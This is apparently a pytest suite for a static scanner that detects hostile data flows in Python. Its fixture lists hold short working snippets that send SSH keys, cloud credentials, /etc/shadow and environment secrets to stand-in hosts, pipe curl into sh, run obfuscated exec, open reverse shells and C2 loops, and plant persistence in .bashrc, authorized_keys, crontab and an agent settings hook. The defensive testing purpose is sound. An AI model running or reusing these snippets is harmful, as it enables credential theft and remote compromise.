"""Flows in Python programs, and ordinary programs that are not reported."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.scan.flow.flow import FlowKind, Language, find_flows, join_blocks
from tests.support.scan.effort import assert_grows_at_most

SECRET, HOST, DOWNLOAD = FlowKind.SECRET_SENT, FlowKind.HOST_DATA_SENT, FlowKind.DOWNLOAD_RUN
DECODED, SHELL, KEPT, HIDDEN = FlowKind.DECODED_RUN, FlowKind.REMOTE_SHELL, FlowKind.PERSISTED, FlowKind.HIDDEN_NAME
PAYLOAD = base64.b64encode(b"import os; os.system('curl https://get.test/x | sh')").decode()

BAD = [
    (
        SECRET,
        "import requests\nd = open('/home/u/.ssh/id_rsa').read()\n# x\nrequests.post('https://sink.test', data=d)",
    ),
    (
        SECRET,
        """
import json, urllib.request as u
from pathlib import Path as P
def grab(p): return p.read_text()
def out(x):
    r = u.Request("https://sink.test/c", data=json.dumps(x).encode())
    u.urlopen(r)
h = P.home()
for n in [".aws/credentials", ".netrc"]:
    out({"k": grab(h / n)})
""",
    ),
    (SECRET, "import os, requests\nrequests.post('https://sink.test', json=dict(os.environ))"),
    (
        SECRET,
        "import os, httpx\nd = {k: v for k, v in os.environ.items() if 'KEY' in k}\nhttpx.post('https://sink.test', json=d)",
    ),
    (
        SECRET,
        """
import os, requests
found = {}
for n in ["OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"]:
    v = os.getenv(n)
    if v:
        found[n] = v
requests.put("https://sink.test", json=found)
""",
    ),
    (
        SECRET,
        """
class Report:
    def __init__(self):
        self.text = open("~/.netrc").read()
    def go(self):
        import requests
        requests.post("https://sink.test", data=self.text)
""",
    ),
    (
        SECRET,
        "import subprocess, os\nd = subprocess.check_output(['cat', '/root/.ssh/id_rsa'])\nos.system(f\"curl -d '{d}' https://sink.test\")",
    ),
    (
        SECRET,
        "import subprocess, os\nsubprocess.run(['curl', '-F', 'f=@' + os.path.expanduser('~/.aws/credentials'), 'https://sink.test'])",
    ),
    (
        SECRET,
        "import subprocess\nd = open('/etc/shadow').read()\nsubprocess.run('curl -d @- https://sink.test', shell=True, input=d)",
    ),
    (
        SECRET,
        "import socket\ns = socket.socket()\ns.connect(('sink.test', 9))\ns.sendall(open('~/.git-credentials', 'rb').read())",
    ),
    (
        SECRET,
        "import zipfile, requests\nwith zipfile.ZipFile('/tmp/a.zip', 'w') as z:\n    z.write('~/.ssh/id_rsa')\nrequests.post('https://sink.test', files={'f': open('/tmp/a.zip', 'rb')})",
    ),
    (
        SECRET,
        "import shutil, sqlite3, requests\nshutil.copy('~/.config/chrome/Login Data', '/tmp/c')\nc = sqlite3.connect('/tmp/c')\nrequests.post('https://sink.test', json=[r for r in c.execute('select 1')])",
    ),
    (
        SECRET,
        "import logging, logging.handlers\nt = open('~/.ssh/id_rsa').read()\nlog = logging.getLogger('x')\nlog.addHandler(logging.handlers.HTTPHandler('sink.test', '/'))\nlog.info(t)",
    ),
    (
        SECRET,
        "import smtplib\nfrom email.mime.base import MIMEBase\nm = MIMEBase('a', 'b')\nm.set_payload(open('~/.bash_history').read())\nsmtplib.SMTP('h').sendmail('a', 'b', m.as_string())",
    ),
    (SECRET, "import ftplib\nf = ftplib.FTP('sink.test')\nf.storbinary('STOR x', open('~/.gnupg/secring.gpg', 'rb'))"),
    (
        SECRET,
        "import aiohttp, asyncio\nasync def go():\n    t = open('~/.netrc').read()\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://sink.test', data=t)\nasyncio.run(go())",
    ),
    (SECRET, "import requests\nrequests.get('https://sink.test/?d=' + open('~/.npmrc').read().strip())"),
    (
        HOST,
        "import socket, requests, getpass\ni = {'h': socket.gethostname(), 'u': getpass.getuser()}\nrequests.get('https://sink.test', params=i)",
    ),
    (HOST, "import os, requests\nrequests.post('https://sink.test', json=os.listdir(os.path.expanduser('~')))"),
    (
        HOST,
        "import os, requests\nall = {}\nfor r, d, fs in os.walk('.'):\n    for f in fs:\n        all[f] = open(os.path.join(r, f)).read()\nrequests.post('https://sink.test', json=all)",
    ),
    (HOST, "import pyperclip, requests\nrequests.post('https://sink.test', data=pyperclip.paste())"),
    (DOWNLOAD, "import requests\nexec(requests.get('https://get.test/x.py').text)"),
    (
        DOWNLOAD,
        "from urllib.request import urlopen as u\nsrc = u('https://get.test/x').read().decode()\ncode = compile(src, 'x', 'exec')\nexec(code)",
    ),
    (
        DOWNLOAD,
        """
import urllib.request, subprocess, os
def fetch(url, dest):
    with urllib.request.urlopen(url) as r, open(dest, "wb") as f:
        f.write(r.read())
    os.chmod(dest, 0o755)
p = os.path.join("/tmp", "x")
fetch("https://get.test/x", p)
subprocess.Popen([p])
""",
    ),
    (
        DOWNLOAD,
        "import urllib.request, os\nurllib.request.urlretrieve('https://get.test/i.sh', '/tmp/i.sh')\nos.system('bash /tmp/i.sh')",
    ),
    (DOWNLOAD, "import os\nos.system('curl -s https://get.test/i.sh | sh')"),
    (
        DOWNLOAD,
        """
import pathlib, subprocess, sys, urllib.request
kept = pathlib.Path.home() / ".cache" / "job"
kept.write_bytes(urllib.request.urlopen("https://get.test/p").read())
subprocess.Popen([sys.executable, str(kept)])
""",
    ),
    (
        DOWNLOAD,
        "import requests, runpy\nopen('p.py', 'w').write(requests.get('https://get.test/p').text)\nrunpy.run_path('p.py')",
    ),
    (DECODED, f"import base64\nexec(base64.b64decode('{PAYLOAD}'))"),
    (DOWNLOAD, f"import base64 as b\nd = b.b64decode\nx = d('{PAYLOAD}')\nexec(x.decode())"),
    (DECODED, "import zlib, marshal\nblob = open('data.bin', 'rb').read()\nexec(marshal.loads(zlib.decompress(blob)))"),
    (DECODED, "exec(''.join(chr(x) for x in [105, 109, 112]))"),
    (DECODED, "exec(bytes([105, 109]).decode())"),
    (DECODED, "exec('so tropmi'[::-1])"),
    (DECODED, "import codecs\neval(codecs.decode('cevag(1)', 'rot13'))"),
    (DECODED, "k = 7\nexec(''.join(chr(ord(c) ^ k) for c in open('d').read()))"),
    (DECODED, "import os\nos.system(bytes.fromhex('6c73').decode())"),
    (DECODED, "import html\nexec(html.unescape('&#105;&#109;'))"),
    (
        SHELL,
        "import socket, subprocess, os\ns = socket.socket()\ns.connect(('10.9.8.7', 44))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
    ),
    (
        SHELL,
        "import socket, subprocess\ns = socket.socket(); s.connect(('10.9.8.7', 44))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.run(c, shell=True, capture_output=True).stdout)",
    ),
    (
        SHELL,
        "import socket as k, subprocess as p\ns = k.create_connection(('10.9.8.7', 44))\np.Popen(['sh'], stdin=s, stdout=s)",
    ),
    (
        SHELL,
        "import requests, time, subprocess\ndef poll():\n    return requests.get('https://c2.test/c').json()['cmd']\nwhile True:\n    subprocess.run(poll(), shell=True)\n    time.sleep(5)",
    ),
    (
        KEPT,
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl https://get.test | sh\\n')",
    ),
    (KEPT, "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('ssh-rsa AAAA')"),
    (
        KEPT,
        "import os, json\np = os.path.join(os.path.expanduser('~'), '.claude', 'settings.json')\nwith open(p, 'w') as f:\n    json.dump({'hooks': {}}, f)",
    ),
    (KEPT, "import subprocess\nsubprocess.run(\"(crontab -l; echo '* * * * * x') | crontab -\", shell=True)"),
    (HIDDEN, "a = __import__; c = a('o' + 's'); c.system('id')"),
    (HIDDEN, "import os\ngetattr(os, 'sys' + 'tem')('ls')"),
    (HIDDEN, "import os\nf = 'metsys'[::-1]\ngetattr(os, f)('ls')"),
    (HIDDEN, "globals()['__builtins__']\ngetattr(__builtins__, 'ex' + 'ec')('1')"),
    (HIDDEN, "__builtins__.__dict__['eval']('1')"),
    (HIDDEN, "import importlib\nm = importlib.import_module('sub' + 'process')\nm.run(['ls'])"),
    (HIDDEN, "exec('imp' + 'ort os')"),
    (HIDDEN, "import os as o\no.__dict__['system']('ls')"),
    (HIDDEN, "import os\nvars(os)['po' + 'pen']('ls')"),
    (
        SECRET,
        "from pathlib import Path\nimport requests\nfor f in Path.home().glob('.ssh/id_*'):\n    requests.post('https://sink.test', data=f.read_bytes())",
    ),
    (
        SECRET,
        "import os, base64\nd = base64.b64encode(open('/root/.netrc', 'rb').read())\nfor c in [d[i:i + 9] for i in range(9)]:\n    os.system('nslookup ' + c.decode() + '.sink.test')",
    ),
    (
        SECRET,
        "import threading, requests\ndef job(d): requests.post('https://sink.test', data=d)\nthreading.Thread(target=job, args=(open('/root/.netrc').read(),)).start()",
    ),
    (
        SECRET,
        "import http.client\nc = http.client.HTTPSConnection('sink.test')\nc.request('POST', '/', body=open('/etc/shadow').read())",
    ),
]

ORDINARY = [
    "import os, requests\nk = os.environ['OPENAI_API_KEY']\nr = requests.post('https://api.openai.test', headers={'Authorization': f'Bearer {k}'}, json={'a': 1})\nprint(r.json())",
    "import os, requests\nrequests.post('https://api.test', json={'api_key': os.getenv('SERVICE_API_KEY'), 'q': 1})",
    "import os, requests\nk = os.getenv('GOOGLE_API_KEY') or os.getenv('GEMINI_API_KEY')\nrequests.get(f'https://g.test/?key={k}')",
    "import os, requests\nrequests.post('https://x.test', data={'k': os.environ['TWITTER_API_KEY'], 's': os.environ['TWITTER_API_SECRET']})",
    "from dotenv import dotenv_values\nimport requests\nc = dotenv_values('.env')\nrequests.post('https://x.test', json={'token': c['X_TOKEN']})",
    "import requests\ndef key():\n    for line in open('.env'):\n        name, value = line.split('=', 1)\n        if name == 'API_KEY':\n            return value\nrequests.post('https://x.test', json={'key': key()})",
    "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'requests'])",
    "import subprocess\nout = subprocess.run(['git', 'log', '--oneline'], capture_output=True, text=True).stdout\nprint(out)",
    "import json, requests\nd = json.loads(requests.get('https://api.test').text)\nprint(d['x'])",
    "import requests, subprocess\nd = requests.get('https://api.test').json()\nsubprocess.run(['git', 'clone', d['url']])",
    "import requests\nopen('model.bin', 'wb').write(requests.get('https://data.test/m').content)",
    "import requests, pandas as pd, io\ndf = pd.read_csv(io.StringIO(requests.get('https://data.test/a.csv').text))",
    "import yaml, os\ncfg = yaml.safe_load(open(os.path.expanduser('~/.kube/config')))\nprint(cfg['current-context'])",
    "import os, subprocess\nenv = {**os.environ, 'A': '1'}\nr = subprocess.run(['make'], env=env, capture_output=True)\nimport requests\nrequests.post('https://x.test', data=r.stdout)",
    "import base64\nimg = base64.b64decode(data)\nopen('a.png', 'wb').write(img)",
    "import base64, requests\nrequests.post('https://x.test', json={'img': base64.b64encode(open('a.png', 'rb').read()).decode()})",
    "model.eval()\nre.compile('x').search(y)",
    "result = eval('1 + 1')",
    "import ast\nast.literal_eval(text)",
    "import importlib\nm = importlib.import_module(name)\nm.run()",
    "getattr(self, 'handle_' + kind)(event)",
    "import socket\ns = socket.socket()\ns.connect(('localhost', 80))\nprint(s.recv(10))",
    "import socket\nprint(socket.gethostname())",
    "import requests, socket\nrequests.post('http://localhost:8080/x', json={'h': socket.gethostname()})",
    "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('export PATH=$HOME/bin:$PATH\\n')",
    "from pathlib import Path\nPath('report.md').write_text('# Report')",
    "import paramiko\nk = paramiko.RSAKey.from_private_key_file('/home/u/.ssh/id_rsa')\nc = paramiko.SSHClient()\nc.connect('host', pkey=k)",
    "import hashlib, requests\nh = hashlib.sha256(open('~/.ssh/id_rsa', 'rb').read()).hexdigest()\nrequests.post('https://x.test', data=h)",
    "import os\nif os.path.exists(os.path.expanduser('~/.ssh/id_rsa')):\n    print('key found')",
    "import urllib.request, zipfile\nurllib.request.urlretrieve('https://data.test/a.zip', 'a.zip')\nzipfile.ZipFile('a.zip').extractall('d')",
    "import boto3\nboto3.client('s3').upload_file('out.csv', 'bucket', 'out.csv')",
    "def test_post(client):\n    assert client.post('/login', json={'password': 'x'}).status_code == 200",
    "import os\nfor root, dirs, files in os.walk('.'):\n    for f in files:\n        print(open(os.path.join(root, f)).read())",
    "x = chr(65) + chr(66)\nprint(x)",
    "import subprocess\nsubprocess.run(f'ffmpeg -i {path} out.mp4', shell=True)",
    "while True:\n    import requests\n    r = requests.get('https://api.test/status')\n    if r.json()['done']:\n        break",
]


def kinds(code: str) -> set[FlowKind]:
    return {flow.kind for flow in find_flows(Language.PYTHON, code)}


@pytest.mark.parametrize(("kind", "code"), BAD)
def test_harm_is_found(kind: FlowKind, code: str) -> None:
    assert kind in kinds(code)


@pytest.mark.parametrize("code", ORDINARY)
def test_ordinary_programs_are_not_reported(code: str) -> None:
    assert set() == kinds(code)


def test_flow_names_its_ends() -> None:
    code = "import requests\n\nt = open('/root/.netrc').read()\n\nrequests.post('https://sink.test/in', data=t)\n"
    (flow,) = find_flows(Language.PYTHON, code)
    expected = (5, 3, "/root/.netrc", "requests.post to https://sink.test/in")
    assert expected == (flow.line, flow.source_line, flow.source, flow.sink)


@pytest.mark.parametrize(
    "broken",
    [
        "print 'old'\n",
        "def f(:\n    pass\n",
        "x = (1,\n",
        "if True\n    y = 2\n",
        "!pip install x\n",
        "class\n" * 9,
        "\0\n",
    ],
)
def test_invalid_syntax_is_read_partially(broken: str) -> None:
    assert {DOWNLOAD} == kinds(broken + "import os\nos.system('curl https://get.test/x | sh')\n")


def test_notebook_commands_are_read() -> None:
    assert DOWNLOAD in kinds("x = 1\n!curl https://get.test/x | sh\n")


def test_blocks_of_a_document_are_one_program() -> None:
    joined = join_blocks(
        [
            (5, "import requests\nt = open('/root/.netrc').read()\n"),
            (12, "def f(:\n"),
            (20, "requests.post('https://s.test', data=t)\n"),
        ]
    )
    (flow,) = find_flows(Language.PYTHON, joined)
    assert (SECRET, 20, 6) == (flow.kind, flow.line, flow.source_line)


@pytest.mark.parametrize(
    "code", ["(" * 3000 + ")" * 3000, "-" * 5000 + "1", "a" + "[a" * 900 + "]" * 900, "x = 1\n" * 40_000]
)
def test_unparsed_code_is_reported(code: str) -> None:
    assert FlowKind.UNREAD in kinds(code)


_PIECES = st.sampled_from(
    [
        "import os\n",
        "exec(",
        "eval(",
        ")",
        "(",
        "'",
        '"',
        "f'{x}'",
        "\n",
        "    ",
        "x",
        "=",
        "+",
        "[::-1]",
        ".join(",
        "open('~/.netrc')",
        ".read()",
        "requests.post(",
        "for x in y:\n",
        "def f(a, *b, **c):\n",
        "return ",
        "lambda x: ",
        "[",
        "]",
        "{",
        "}",
        ":",
        ",",
        "**",
        "*",
        "base64.b64decode(",
        "'QQ=='",
        "chr(9999999)",
        "os.environ",
        "'%s' % ",
        "class A:\n",
        "self.",
        "global x\n",
        "\x00",
        "\ue000",
        "\x0c\n",
        "1e9",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.one_of(st.text(max_size=200), st.lists(_PIECES, max_size=40).map("".join)))
def test_no_input_raises(code: str) -> None:
    find_flows(Language.PYTHON, code)


REPEATED = [
    "x = open('~/.netrc').read(); requests.post('https://sink.test', data=x)\n",
    "x = x + 'aaaaaaaaaaaaaaaa'\n",
    "x = x + x\n",
    "x += [x]\n",
    "def f(a): return f(a + 'x')\n",
    "x.append(x)\n",
    "y = [a for a in x for b in a]\n",
    "os.system('curl https://get.test/a | sh')\n",
    "print 'x' (\n",
]


@pytest.mark.parametrize("line", REPEATED)
def test_work_grows_linearly(line: str) -> None:
    less, more = line * 300, line * 600
    assert_grows_at_most(
        4, lambda: find_flows(Language.PYTHON, less), lambda: find_flows(Language.PYTHON, more), least=0.0125
    )
